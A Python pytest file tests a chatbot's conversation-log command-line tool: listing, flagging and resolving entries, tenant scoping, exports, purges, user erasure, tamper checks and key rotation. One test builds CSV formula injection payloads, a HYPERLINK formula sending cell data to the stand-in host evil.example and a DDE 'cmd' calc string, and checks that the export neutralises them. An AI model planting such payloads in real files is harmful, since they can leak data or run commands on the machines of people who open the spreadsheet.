"""`personabot logs ...` through typer's CliRunner on the real app, plus the console script."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from adapters.cli import app
from bot.errors import PersonabotError
from bot.settings import load_settings
from bot.storage import SqlConversationLog, open_log
from tests.storage.conftest import exchange

runner = CliRunner()


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    values = {"PERSONABOT_DATA_DIR": str(tmp_path / "data")}
    for name, value in values.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("DATABASE_URL", raising=False)
    return values


@pytest.fixture
def seeded(env: dict[str, str]) -> Iterator[list[str]]:
    log: SqlConversationLog = open_log(load_settings())
    old = datetime.now(UTC) - timedelta(days=45)
    items = [
        exchange("an old question", received_at=old, user_id="u-old"),
        exchange("Why did NATO expand?", tenant="guild-1"),
        exchange("Tell me a joke", tenant="guild-2", refused=True, grounded=False),
    ]
    for item in items:
        log.record(item)
    log.close()
    yield [item.id for item in items]


def run(*args: str) -> tuple[int, str, BaseException | None]:
    result = runner.invoke(app, ["logs", *args])
    return result.exit_code, result.stdout, result.exception


def ok_json(*args: str) -> Any:
    code, out, error = run(*args, "--json")
    assert code == 0, (out, error)
    return json.loads(out)


def test_list_filters_and_paging(seeded: list[str]) -> None:
    page = ok_json("list")
    assert page["total"] == 3
    assert [i["id"] for i in ok_json("list", "--refused")["items"]] == [seeded[2]]
    assert ok_json("list", "--tenant", "guild-1", "--since", "7d")["total"] == 1
    assert ok_json("list", "--search", "nato")["items"][0]["id"] == seeded[1]
    assert len(ok_json("list", "--limit", "1", "--offset", "1")["items"]) == 1
    code, out, _ = run("list")
    assert code == 0 and seeded[1][:12] in out and "exchanges 1-3 of 3" in out


def test_show_flag_note_resolve_and_audit(seeded: list[str]) -> None:
    detail = ok_json("show", seeded[1][:10])
    assert detail["retrieved"][0] == {
        "passage_id": "p-3",
        "section": "Intro",
        "quote": "",
        "score": 3.25,
    }
    flag = ok_json("--as", "alice", "flag", seeded[1], "--reason", "check the claim")
    assert flag["reporter"] == "alice"
    assert ok_json("list", "--flagged")["total"] == 1
    flag_id = str(flag["id"])
    ok_json("--as", "bob", "note", flag_id, "source is section 2")
    resolved = ok_json("--as", "bob", "resolve", flag_id, "--note", "accurate")
    assert resolved["status"] == "resolved"
    assert [n["author"] for n in resolved["notes"]] == ["bob", "bob"]
    trail = ok_json("audit")
    assert [(a["actor"], a["action"]) for a in trail] == [
        ("bob", "resolve"),
        ("bob", "note"),
        ("alice", "flag"),
    ]
    code, out, _ = run("show", seeded[1])
    assert code == 0 and "p-3" in out and "3.250" in out


def test_scope_hides_other_tenants(seeded: list[str]) -> None:
    page = ok_json("--scope", "guild-1", "list")
    assert [i["tenant"] for i in page["items"]] == ["guild-1", "guild-1"]
    code, _, error = run("--scope", "guild-1", "show", seeded[2])
    assert code != 0 and isinstance(error, PersonabotError)


def test_export_jsonl_and_csv(seeded: list[str], tmp_path: Path) -> None:
    code, out, _ = run("export", "--format", "jsonl")
    assert code == 0
    lines = [json.loads(line) for line in out.splitlines()]
    assert [line["id"] for line in lines] == seeded  # oldest first
    target = tmp_path / "out.csv"
    code, _, _ = run("export", "--format", "csv", "--output", str(target), "--refused")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(target.read_text())))
    assert [(r["id"], r["refused"], r["cited"]) for r in rows] == [(seeded[2], "True", "p-3")]


def test_purge_erase_verify_stats(seeded: list[str], env: dict[str, str]) -> None:
    assert ok_json("purge", "--older-than", "30d", "--dry-run")["would_delete"] == 1
    assert ok_json("purge", "--older-than", "30d", "--yes")["deleted"] == 1
    erased = ok_json("erase-user", "discord", "u1")
    assert erased["exchanges_deleted"] == 2
    assert ok_json("list")["total"] == 0
    assert all(r["ok"] for r in ok_json("verify"))
    log = open_log(load_settings())
    log.record(exchange("fresh"))
    with log.engine.begin() as conn:
        conn.execute(text("UPDATE exchanges SET input_text = 'forged'"))
    log.close()
    code, out, _ = run("verify")
    assert code == 1 and "BROKEN" in out and "changed after it was stored" in out
    days = ok_json("stats")
    assert sum(d["exchanges"] for d in days) == 1


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["show", "not an id!"], "not an exchange id"),
        (["show", "ffffffffffff"], "No exchange"),
        (["list", "--since", "yesterday-ish"], "Bad date for --since"),
        (["list", "--limit", "0"], "Bad --limit"),
        (["purge", "--older-than", "30 parsecs"], "Bad duration"),
        (["resolve", "12a"], "Bad flag id"),
        (["resolve", "999"], "No flag 999"),
        (["export", "--output", "/dev/null/x.jsonl"], "Cannot export"),
        (["export", "--output", "/proc/version"], "Writing /proc/version failed"),
        (["export", "--output", "/proc"], "not a regular file"),
        (["resolve", "99999999999999999999"], "No flag 99999999999999999999"),
        (["resolve", "2147483648"], "No flag 2147483648"),
        (["audit", "--limit", "-1"], "1 to 10,000"),
        (["purge", "--older-than", "99999999999d"], "too long"),
        (["purge", "--older-than", "1s"], "add --yes"),
        (
            ["--scope", "guild-1", "ban", "discord", "guild-2", "u1"],
            "outside your moderation scope",
        ),
    ],
)
def test_bad_input_is_one_clear_error(seeded: list[str], args: list[str], message: str) -> None:
    code, _, error = run(*args)
    assert code != 0
    assert isinstance(error, PersonabotError) and message in str(error)


def test_flagging_needs_a_reason_and_a_flag_resolves_once(seeded: list[str]) -> None:
    code, _, error = run("flag", seeded[1], "--reason", "  ")
    assert code != 0 and "reason is empty" in str(error)
    flag = ok_json("--as", "alice", "flag", seeded[1], "--reason", "check")
    ok_json("--as", "bob", "resolve", str(flag["id"]))
    code, _, error = run("--as", "carol", "resolve", str(flag["id"]))
    assert code != 0 and "already resolved by bob" in str(error)
    assert ok_json("show", seeded[1])["flags"][0]["resolved_by"] == "bob"


def test_csv_export_is_spreadsheet_safe_private_and_audited(
    env: dict[str, str], tmp_path: Path
) -> None:
    log = open_log(load_settings())
    hostile = exchange(
        '=HYPERLINK("http://evil.example/?"&A1,"click")', user_id="123456789012345678"
    )
    hostile.message.user_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    log.record(hostile)
    log.close()
    target = tmp_path / "out.csv"
    code, _, error = run("--as", "alice", "export", "--format", "csv", "--output", str(target))
    assert code == 0, error
    assert target.stat().st_mode & 0o077 == 0
    [row] = list(csv.DictReader(io.StringIO(target.read_text())))
    assert row["input_text"] == "'" + hostile.message.text
    assert row["user_name"].startswith("'@")
    assert row["user_id"] == "'123456789012345678"  # text, not 1.23457E+17
    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row.values())
    [entry] = ok_json("audit")[:1]
    assert (entry["actor"], entry["action"], entry["detail"]["rows"]) == ("alice", "export", 1)


def test_rotating_the_key_from_the_command_line(
    env: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PERSONABOT_LOG_KEY", "first key")
    log = open_log(load_settings())
    log.record(exchange())
    log.close()
    assert all(r["ok"] for r in ok_json("verify"))
    monkeypatch.setenv("PERSONABOT_LOG_KEY", "second key")
    code, out, _ = run("verify")
    assert code == 1 and "sealed with key" in out
    monkeypatch.setenv("OLD_KEY", "first key")
    code, out, error = run("rekey", "--old-key-env", "OLD_KEY")
    assert code == 0, error
    assert all(r["ok"] and r["keyed"] for r in ok_json("verify"))
    monkeypatch.delenv("PERSONABOT_LOG_KEY")
    code, out, _ = run("verify")
    assert code == 1 and "not the configured key (none)" in out and "WARNING" in out


def test_console_script_prints_one_line_and_exits_2(env: dict[str, str], seeded: list[str]) -> None:
    done = subprocess.run(
        [sys.executable, "-c", "from adapters.cli import main; main()", "logs", "show", "bad id!"],
        capture_output=True,
        text=True,
        check=False,
        env={**env, "PATH": "/usr/bin:/bin"},
    )
    assert done.returncode == 2
    assert done.stderr.strip().count("\n") == 0 and "not an exchange id" in done.stderr
